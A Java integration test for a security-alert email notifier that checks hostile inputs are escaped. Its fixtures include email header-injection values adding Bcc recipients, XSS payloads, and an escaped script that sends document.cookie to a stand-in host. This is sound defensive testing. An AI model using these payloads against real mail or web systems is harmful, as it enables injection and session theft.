package io.mderesponse.notifier.messaging;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.icegreen.greenmail.util.GreenMail;
import io.mderesponse.contracts.defender.Severity;
import io.mderesponse.contracts.event.AlertSummary;
import io.mderesponse.contracts.event.DecisionMade;
import io.mderesponse.contracts.event.Event;
import io.mderesponse.contracts.event.FinalStatus;
import io.mderesponse.contracts.event.MachineActionCompleted;
import io.mderesponse.contracts.event.MachineActionKind;
import io.mderesponse.contracts.event.ResponseActionCompleted;
import io.mderesponse.contracts.event.RuleAction;
import io.mderesponse.contracts.serde.DecisionMadeDeserializer;
import io.mderesponse.contracts.serde.ResponseActionCompletedDeserializer;
import io.mderesponse.notifier.service.NotificationService;
import io.mderesponse.contracts.serde.JsonEventSerializer;
import io.mderesponse.contracts.serde.MachineActionCompletedDeserializer;
import io.mderesponse.contracts.topic.Topics;
import io.mderesponse.notifier.Samples;
import io.mderesponse.notifier.testing.GreenMailResource;
import io.mderesponse.notifier.testing.InjectGreenMail;
import io.mderesponse.notifier.testing.NotifierTestProfile;
import io.mderesponse.notifier.testing.ReceivedMail;
import io.mderesponse.testsupport.kafka.KafkaBrokerResource;
import io.mderesponse.testsupport.kafka.SharedKafkaBroker;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.smallrye.reactive.messaging.kafka.companion.KafkaCompanion;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.Serdes;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

@QuarkusTest
@TestProfile(NotifierTestProfile.class)
@WithTestResource(KafkaBrokerResource.class)
@WithTestResource(GreenMailResource.class)
class NotifierKafkaTest {

    private static final Duration TIMEOUT = Duration.ofSeconds(60);
    private static final String ANALYST = "analyst@example.test";
    /** Every header an email may have: what the mailer and GreenMail write, and ours. */
    private static final List<String> EXPECTED_HEADERS = List.of("Return-Path", "Received", "From", "To", "Subject",
            "Message-ID", "Date", "MIME-Version", "Cc", "Content-Type", "Content-Transfer-Encoding",
            "X-MDE-Response-Event-Id");

    @InjectGreenMail
    GreenMail greenMail;

    private KafkaCompanion kafka;

    @BeforeEach
    void connect() {
        kafka = new KafkaCompanion(SharedKafkaBroker.bootstrapServers());
        kafka.registerSerde(MachineActionCompleted.class,
                Serdes.serdeFrom(new JsonEventSerializer<>(), new MachineActionCompletedDeserializer()));
        kafka.registerSerde(ResponseActionCompleted.class,
                Serdes.serdeFrom(new JsonEventSerializer<>(), new ResponseActionCompletedDeserializer()));
        kafka.registerSerde(DecisionMade.class,
                Serdes.serdeFrom(new JsonEventSerializer<>(), new DecisionMadeDeserializer()));
    }

    @AfterEach
    void close() {
        kafka.close();
    }

    @Test
    void aSucceededIsolationWithAHostileTitleYieldsExactlyOneSafeEmailToEveryRecipient() {
        AlertSummary alert = Samples.alert(Samples.uniqueAlertId(), Samples.HOSTILE_TITLE, Severity.High);
        MachineActionCompleted event = Samples.isolation(alert, FinalStatus.Succeeded, null,
                List.of(ANALYST, "SOC@example.test", "eve@evil.test>\r\nBcc: x@evil.test"));
        MachineActionCompleted later = Samples.isolation(Samples.alert(Samples.uniqueAlertId(), "Later",
                Severity.High), FinalStatus.Succeeded, null, List.of());

        // Same machine, so same partition: once the later event's email is there, the first one's is complete.
        produce(MachineActionCompleted.class, Topics.ACTIONS_RESULTS.defaultName(), event, later);
        awaitEmail(later.eventId());

        List<ReceivedMail> copies = ReceivedMail.copiesFor(greenMail, event.eventId());
        assertThat(ReceivedMail.distinctEmails(copies)).isEqualTo(1);
        assertThat(copies).hasSize(3); // one copy per recipient mailbox
        assertThat(greenMail.getReceivedMessagesForDomain("evil.test")).isEmpty();
        ReceivedMail mail = copies.get(0);
        assertThat(mail.to()).containsExactly(ANALYST, "SOC@example.test", NotifierTestProfile.ONCALL);
        assertThat(mail.from()).isEqualTo("mde-response@example.test");
        assertThat(mail.header("Bcc")).isNull();
        assertThat(mail.subject())
                .doesNotContain("\r", "\n")
                .isEqualTo("[MDE Response] Isolate Succeeded: ws-042.contoso.com — "
                        + "Evil <script>alert(\"x\")</script> & co Bcc: attacker@evil.test");
        assertThat(mail.part("text/html")).hasValueSatisfying(html -> assertThat(html)
                .contains("Evil &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co Bcc: attacker@evil.test")
                .doesNotContain("<script>")
                .contains("<strong>Succeeded</strong>")
                .contains("href=\"" + NotifierTestProfile.PORTAL + "/alerts/" + alert.alertId() + "\"")
                .contains("href=\"" + NotifierTestProfile.PORTAL + "/machines/" + Samples.MACHINE_ID + "\""));
        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
                .contains("Final status:     Succeeded")
                .contains("Alert:            Evil <script>alert(\"x\")</script> & co Bcc: attacker@evil.test")
                .contains("Alert id:         " + alert.alertId())
                .contains("Machine:          " + Samples.MACHINE_NAME)
                .contains("Machine id:       " + Samples.MACHINE_ID)
                .contains("Category:         Execution")
                .contains("Detection source: WindowsDefenderAtp")
                .contains("Decision id:      " + event.decisionId()));
    }

    @Test
    void aTwoActionPlanYieldsOneEmailWithBothStatusesInPlanOrderOnlyOnceBothResultsArrivedAndNeverTwice() {
        AlertSummary alert = Samples.alert(Samples.uniqueAlertId(), "Ransomware", Severity.High);
        DecisionMade decision = Samples.isolatingAndCollecting(alert, List.of(ANALYST));
        UUID planEmail = NotificationService.actionsEmailId(decision.decisionId());
        MachineActionCompleted isolated = Samples.isolationResult(decision, FinalStatus.Succeeded, null);
        ResponseActionCompleted collected = Samples.responseResult(decision,
                MachineActionKind.COLLECT_INVESTIGATION_PACKAGE, FinalStatus.Failed, "Package <b>too</b> large");

        // The package's result first (on its own topic); a one-action result behind it on the same partition shows
        // it was processed.
        ResponseActionCompleted scanned = scanResult();
        produce(ResponseActionCompleted.class, Topics.RESPONSE_ACTIONS_RESULTS.defaultName(), collected, scanned);
        awaitEmail(NotificationService.actionsEmailId(scanned.decisionId()));
        assertThat(ReceivedMail.copiesFor(greenMail, planEmail)).as("no email before the plan's last result").isEmpty();

        produce(MachineActionCompleted.class, Topics.ACTIONS_RESULTS.defaultName(), isolated);
        awaitEmail(planEmail);

        ReceivedMail mail = ReceivedMail.copiesFor(greenMail, planEmail).get(0);
        assertThat(mail.subject()).isEqualTo("[MDE Response] Isolate Succeeded, CollectInvestigationPackage Failed: "
                + "ws-042.contoso.com — Ransomware");
        assertThat(mail.to()).containsExactly(ANALYST, NotifierTestProfile.ONCALL, NotifierTestProfile.SOC);
        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
                .containsSubsequence("1. Isolate the machine (Isolate)", "Parameters:       Full isolation",
                        "Final status:     Succeeded", "2. Collect an investigation package (CollectInvestigationPackage)",
                        "Final status:     Failed", "Reason:           Package <b>too</b> large")
                .contains("Rule:             isolate-and-collect-high"));
        assertThat(mail.part("text/html")).hasValueSatisfying(html -> assertThat(html)
                .contains("Package &lt;b&gt;too&lt;/b&gt; large").doesNotContain("<b>too"));

        // Both results redelivered, then an old-format isolation (no plan) on each topic's partition.
        MachineActionCompleted oldFormat = Samples.isolation(Samples.alert(Samples.uniqueAlertId(), "Old", Severity.High),
                FinalStatus.Succeeded, null, List.of());
        ResponseActionCompleted scannedAgain = scanResult();
        produce(ResponseActionCompleted.class, Topics.RESPONSE_ACTIONS_RESULTS.defaultName(), collected, scannedAgain);
        produce(MachineActionCompleted.class, Topics.ACTIONS_RESULTS.defaultName(), isolated, oldFormat);
        awaitEmail(NotificationService.actionsEmailId(scannedAgain.decisionId()));
        awaitEmail(oldFormat.eventId());
        assertThat(ReceivedMail.distinctEmails(ReceivedMail.copiesFor(greenMail, planEmail))).isEqualTo(1);
    }

    @Test
    void aQuarantinedFileWithAHostileNameAndReasonIsShownAsText() {
        DecisionMade decision = Samples.scanningAndQuarantining(Samples.alert(Samples.uniqueAlertId(), "Dropper",
                Severity.High), List.of());
        ResponseActionCompleted scanned = Samples.responseResult(decision, MachineActionKind.ANTIVIRUS_SCAN,
                FinalStatus.Succeeded, null);
        ResponseActionCompleted quarantined = Samples.responseResult(decision,
                MachineActionKind.STOP_AND_QUARANTINE_FILE, FinalStatus.Rejected,
                "<script>alert(1)</script>\r\nBcc: x@evil.test");

        produce(ResponseActionCompleted.class, Topics.RESPONSE_ACTIONS_RESULTS.defaultName(), quarantined, scanned);
        UUID planEmail = NotificationService.actionsEmailId(decision.decisionId());
        awaitEmail(planEmail);

        ReceivedMail mail = ReceivedMail.copiesFor(greenMail, planEmail).get(0);
        assertThat(mail.subject()).startsWith("[MDE Response] RunAntiVirusScan Succeeded, StopAndQuarantineFile "
                + "Rejected: ");
        assertThat(mail.headerNames()).doesNotContain("Bcc", "bcc");
        assertThat(mail.part("text/html")).hasValueSatisfying(html -> {
            assertThat(html).contains("File &lt;img src=x onerror=alert(1)&gt;inv&quot;oice&quot;.exe Bcc: "
                    + "x@evil.test, SHA-1 " + Samples.SHA1)
                    .contains("&lt;script&gt;alert(1)&lt;/script&gt; Bcc: x@evil.test")
                    .containsSubsequence("Run an antivirus scan", "Stop and quarantine a file");
            assertThat(java.util.regex.Pattern.compile("<\\s*([a-zA-Z][a-zA-Z0-9]*)").matcher(html).results()
                    .map(m -> m.group(1).toLowerCase()).distinct().toList())
                    .isSubsetOf("html", "head", "meta", "title", "body", "h2", "p", "table", "tr", "th", "td", "a",
                            "strong");
        });
    }

    /** A one-action plan (a scan) of another decision about the same machine. */
    private static ResponseActionCompleted scanResult() {
        DecisionMade scanning = Samples.acting(Samples.alert(Samples.uniqueAlertId(), "Scan", Severity.Medium),
                List.of(), "scan-medium", List.of(RuleAction.NOTIFY), MachineActionKind.ANTIVIRUS_SCAN);
        return Samples.responseResult(scanning, MachineActionKind.ANTIVIRUS_SCAN, FinalStatus.Succeeded, null);
    }

    @Test
    void aHostileAlertYieldsOneEmailToExactlyTheIntendedRecipientsWithItsTextShownAsText() {
        DecisionMade hostile = Samples.hostileNotifyOnly(Samples.uniqueAlertId(),
                List.of(ANALYST, "x@evil.test\r\nBcc: y@evil.test", "<z@evil.test>"));

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), hostile);
        awaitEmail(hostile.eventId());

        List<ReceivedMail> copies = ReceivedMail.copiesFor(greenMail, hostile.eventId());
        assertThat(ReceivedMail.distinctEmails(copies)).isEqualTo(1);
        assertThat(copies).hasSize(3); // the analyst and the two configured recipients, nobody else
        assertThat(greenMail.getReceivedMessagesForDomain("evil.test")).isEmpty();
        ReceivedMail mail = copies.get(0);
        assertThat(mail.to()).containsExactly(ANALYST, NotifierTestProfile.ONCALL, NotifierTestProfile.SOC);
        // The mailer writes an empty Cc header; it must stay empty, and there must be no Bcc at all.
        assertThat(mail.headerNames()).doesNotContain("Bcc", "bcc")
                .allSatisfy(name -> assertThat(EXPECTED_HEADERS).contains(name));
        assertThat(mail.header("Cc")).as("Cc header").satisfiesAnyOf(
                cc -> assertThat(cc).isNull(), cc -> assertThat(cc).isBlank());
        assertThat(mail.recipients(jakarta.mail.Message.RecipientType.CC)).isEmpty();
        assertThat(mail.recipients(jakarta.mail.Message.RecipientType.BCC)).isEmpty();
        assertThat(mail.subject()).doesNotContain("\r", "\n")
                .startsWith("[MDE Response] Medium alert: <b onmouseover=alert(1)>ws-666</b> Cc: cc@evil.test — "
                        + "Ransomware Bcc: attacker@evil.test <h1>gotcha</h1>");
        assertThat(mail.part("text/html")).hasValueSatisfying(html -> {
            assertThat(html).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img")
                    .doesNotContainIgnoringCase("<iframe").doesNotContainIgnoringCase("<h1")
                    .doesNotContainIgnoringCase("<b ").doesNotContainIgnoringCase("href=\"javascript")
                    .doesNotContainIgnoringCase("href=\\\"javascript")
                    .contains("&lt;script&gt;fetch(&#39;https://evil.test/&#39;+document.cookie)&lt;/script&gt;"
                            + "&lt;img src=x onerror=alert(1)&gt;")
                    .contains("&lt;b onmouseover=alert(1)&gt;ws-666&lt;/b&gt; Cc: cc@evil.test")
                    .contains("Ransomware Bcc: attacker@evil.test &lt;h1&gt;gotcha&lt;/h1&gt;")
                    .contains("cmd.exe /c &quot;&lt;a href=");
            // Only the template's own elements are markup.
            assertThat(java.util.regex.Pattern.compile("<\\s*([a-zA-Z][a-zA-Z0-9]*)").matcher(html).results()
                    .map(m -> m.group(1).toLowerCase()).distinct().toList())
                    .isSubsetOf("html", "head", "meta", "title", "body", "h2", "p", "table", "tr", "th", "td", "a",
                            "strong");
            assertThat(html).contains("href=\"" + NotifierTestProfile.PORTAL + "/alerts/" + hostile.alert().alertId())
                    .contains("First event</th><td>2026-11-27T09:59:00Z")
                    .contains("Last event</th><td>2026-11-27T09:59:30Z")
                    .contains("Device group</th><td>Workstations");
        });
        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
                .contains("Rule input alert.description: " + Samples.HOSTILE_DESCRIPTION)
                .contains("Machine:          <b onmouseover=alert(1)>ws-666</b> Cc: cc@evil.test"));
    }

    @Test
    void aRedeliveredEventSendsNothingTwice() {
        DecisionMade decision = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Twice", Severity.Medium),
                List.of(ANALYST));
        DecisionMade control = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Control",
                Severity.Medium), List.of());

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), decision, decision, control);
        awaitEmail(control.eventId());

        assertThat(ReceivedMail.distinctEmails(ReceivedMail.copiesFor(greenMail, decision.eventId()))).isEqualTo(1);
    }

    @Test
    void anExpiredHoldHasItsOwnSubject() {
        DecisionMade held = DecisionMade.forAlert(Samples.alert(Samples.uniqueAlertId(), "Held", Severity.High),
                "isolate-high", "bundled-1", java.util.Map.of(), List.of(io.mderesponse.contracts.event.RuleAction.ISOLATE),
                io.mderesponse.contracts.defender.IsolationType.Full, io.mderesponse.contracts.event.DecisionOutcome.HELD,
                List.of(ANALYST), "hourly cap reached");
        DecisionMade expired = DecisionMade.settling(held, io.mderesponse.contracts.event.DecisionOutcome.EXPIRED, null,
                "approval.ttl passed");

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), held, expired);
        awaitEmail(expired.eventId());

        assertThat(ReceivedMail.copiesFor(greenMail, held.eventId()).get(0).subject())
                .startsWith("[MDE Response] Isolation held for approval: ws-042.contoso.com");
        ReceivedMail mail = ReceivedMail.copiesFor(greenMail, expired.eventId()).get(0);
        assertThat(mail.subject())
                .startsWith("[MDE Response] Held isolation expired, machine not isolated: ws-042.contoso.com");
        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
                .contains("the machine was NOT isolated"));
    }

    @Test
    void aNotifyOnlyDecisionYieldsOneEmail() {
        DecisionMade decision = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Suspicious PowerShell",
                Severity.Medium), List.of(ANALYST));

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), decision);
        awaitEmail(decision.eventId());

        List<ReceivedMail> copies = ReceivedMail.copiesFor(greenMail, decision.eventId());
        assertThat(ReceivedMail.distinctEmails(copies)).isEqualTo(1);
        ReceivedMail mail = copies.get(0);
        assertThat(mail.subject())
                .isEqualTo("[MDE Response] Medium alert: ws-042.contoso.com — Suspicious PowerShell");
        assertThat(mail.to()).containsExactly(ANALYST, NotifierTestProfile.ONCALL, NotifierTestProfile.SOC);
        assertThat(mail.part("text/plain")).hasValueSatisfying(text -> assertThat(text)
                .contains("Rule:             notify-medium")
                .contains("Decision id:      " + decision.decisionId()));
    }

    @Test
    void aDecisionThatMatchedNoRuleYieldsNoEmail() {
        DecisionMade noMatch = Samples.noMatch(Samples.alert(Samples.uniqueAlertId(), "Medium", Severity.Medium));
        DecisionMade control = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Control",
                Severity.Medium), List.of());

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), noMatch, control);
        awaitEmail(control.eventId());

        assertThat(ReceivedMail.copiesFor(greenMail, noMatch.eventId())).isEmpty();
    }

    @Test
    void aDecisionThatIsolatesYieldsNoEmailOfItsOwn() {
        DecisionMade isolating = Samples.isolating(Samples.alert(Samples.uniqueAlertId(), "High", Severity.High),
                List.of(ANALYST));
        DecisionMade control = Samples.notifyOnly(Samples.alert(Samples.uniqueAlertId(), "Control",
                Severity.Medium), List.of());

        produce(DecisionMade.class, Topics.DECISIONS.defaultName(), isolating, control);
        awaitEmail(control.eventId());

        assertThat(ReceivedMail.copiesFor(greenMail, isolating.eventId())).isEmpty();
    }

    @Test
    void anActionResultThatIsNoEventGoesToTheDeadLetterTopicWithTheReason() {
        assertPoisonReachesDeadLetterTopic(Topics.ACTIONS_RESULTS.defaultName());
    }

    @Test
    void aResponseActionResultThatIsNoEventGoesToTheDeadLetterTopicWithTheReason() {
        assertPoisonReachesDeadLetterTopic(Topics.RESPONSE_ACTIONS_RESULTS.defaultName());
    }

    @Test
    void aDecisionThatIsNoEventGoesToTheDeadLetterTopicWithTheReason() {
        assertPoisonReachesDeadLetterTopic(Topics.DECISIONS.defaultName());
    }

    private void assertPoisonReachesDeadLetterTopic(String topic) {
        String poison = "{not json " + UUID.randomUUID();
        kafka.produceStrings().fromRecords(new ProducerRecord<>(topic, "poison", poison)).awaitCompletion();

        String dlq = Topics.dlq(topic, "notifier-service");
        ConsumerRecord<String, String> record = kafka.consumeStrings()
                .fromTopics(dlq, records -> records.select().where(r -> poison.equals(r.value())).select().first())
                .awaitCompletion(TIMEOUT).getRecords().get(0);
        assertThat(header(record, "dead-letter-reason")).contains("not a valid event");
    }

    @SafeVarargs
    private <T extends Event> void produce(Class<T> type, String topic, T... events) {
        @SuppressWarnings("unchecked")
        ProducerRecord<String, T>[] records = new ProducerRecord[events.length];
        for (int i = 0; i < events.length; i++) {
            records[i] = new ProducerRecord<>(topic, events[i].kafkaKey(), events[i]);
        }
        kafka.produce(String.class, type).fromRecords(records).awaitCompletion();
    }

    private void awaitEmail(UUID eventId) {
        await().atMost(TIMEOUT).until(() -> !ReceivedMail.copiesFor(greenMail, eventId).isEmpty());
    }

    private static String header(ConsumerRecord<?, ?> record, String name) {
        var header = record.headers().lastHeader(name);
        return header == null ? null : new String(header.value(), StandardCharsets.UTF_8);
    }
}
